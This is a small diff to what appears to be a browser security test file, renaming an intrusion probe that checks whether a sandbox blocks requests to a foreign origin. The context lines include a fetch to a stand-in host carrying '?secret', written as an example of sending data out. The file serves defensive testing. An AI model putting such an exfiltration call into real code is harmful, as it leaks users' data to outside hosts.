@@ -43,7 +43,7 @@ const INTRUSIONS = {
     document.body.append(style)
     if (getComputedStyle(document.body).display === 'none') Reflect.set(window, 'intruder', true)
   },
-  'a message home': () => {
+  'a request to a foreign origin': () => {
     void fetch('http://elsewhere.test/?secret').then(
       () => Reflect.set(window, 'intruder', true),
       () => undefined,
